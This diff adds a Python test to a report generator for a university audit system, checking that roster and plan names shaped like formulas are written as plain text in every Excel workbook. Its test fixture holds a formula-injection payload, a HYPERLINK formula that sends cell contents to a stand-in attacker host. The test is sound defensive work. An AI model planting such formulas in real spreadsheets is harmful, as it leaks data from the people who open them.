@@ -342,3 +342,38 @@ def test_reminders_name_the_command_that_writes_their_form(engine) -> None:
     (audit,) = _reminder_bodies(engine, "dept_audit_paper/news")
     assert "报表：cuiban report dept-audit --unit 新闻传播学院" in audit
     assert not any("报表" in body for body in _reminder_bodies(engine, "dept_filling/news"))
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1)'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_names_from_the_roster_and_plan_stay_text_in_every_workbook(engine, tmp_path: Path) -> None:
+    """Formula injection: a roster name (or a plan's) that looks like a formula is stored as a string
+    cell with its exact text in 附表3–6, never as a formula the office's Excel would run."""
+    plan_file = tmp_path / "plan.yaml"
+    hostile = plan_text(False).replace("{name: 程兴,", "{name: '" + EVIL + "',")
+    plan_file.write_text(hostile.replace("title: 组长}", "title: '@组长'}"), encoding="utf-8")
+    plan, calendar = load_plan(plan_file)
+    assert plan is not None
+    header = ROSTER_HEADER + ["学历", "学位", "职称"]
+    rows = [teacher_row(n, "新闻传播学院") + ["硕士研究生", "硕士", "-讲师"] for n in range(1, 5)]
+    rows[0][ROSTER_HEADER.index("姓名")] = EVIL  # no one entered: first in the 附表6 list of names
+    import_roster(engine, plan, calendar, write_csv(tmp_path / "roster.csv", header, rows), IMPORTED)
+
+    books = {}
+    for name, unit in (("teacher-sheet", "news"), ("dept-audit", None), ("working-group", None),
+                       ("monthly", None)):
+        (path,) = write_reports(engine, plan, name, "xlsx", NOW, tmp_path / f"{name}.xlsx", unit=unit)
+        books[name] = openpyxl.load_workbook(path)
+    texts = {}
+    for name, book in books.items():
+        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], name
+        looks = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
+        assert all(c.data_type == "s" for c in looks), name
+        texts[name] = [c.value for c in looks]
+    assert EVIL in texts["teacher-sheet"] and "-讲师" in texts["teacher-sheet"]  # 附表5: name, 职称
+    assert any(v.startswith(EVIL + "、") for v in texts["dept-audit"])  # 附表6: the names not entered
+    assert EVIL in texts["working-group"] and "@组长" in texts["working-group"]  # 附表3
+    assert EVIL in texts["monthly"]  # 附表4: the coordinator fills it in
